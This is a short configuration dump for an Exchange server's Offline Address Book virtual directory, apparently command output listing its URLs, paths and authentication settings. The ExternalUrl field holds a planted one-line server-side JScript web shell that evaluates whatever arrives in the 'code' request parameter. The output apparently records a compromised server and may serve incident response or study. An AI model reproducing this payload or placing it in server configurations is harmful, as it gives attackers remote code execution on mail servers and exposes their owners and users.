Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : 
RequireSSL                      : False
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : False
MetabasePath                    : IIS://EXCH01.contoso.local/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
InternalUrl                     : https://exch01.contoso.local/OAB
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>
AdminDisplayName                : 
ExchangeVersion                 : 0.10 (14.0.100.0)
Server                          : EXCH01
